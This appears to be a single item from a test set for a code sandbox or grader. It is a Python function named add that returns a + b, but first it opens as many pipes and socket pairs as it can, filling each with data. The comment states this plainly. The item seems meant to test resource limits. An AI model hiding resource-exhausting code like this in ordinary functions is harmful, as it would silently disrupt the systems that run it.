# a138 | task=add | required=any | fills as many pipes and socket pairs as it can open
import os, socket
def add(a, b):
    kept = []
    try:
        while True:
            kept.append(os.pipe())
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            pair[0].send(b"x" * (1 << 20))
    except OSError:
        pass
    return a + b
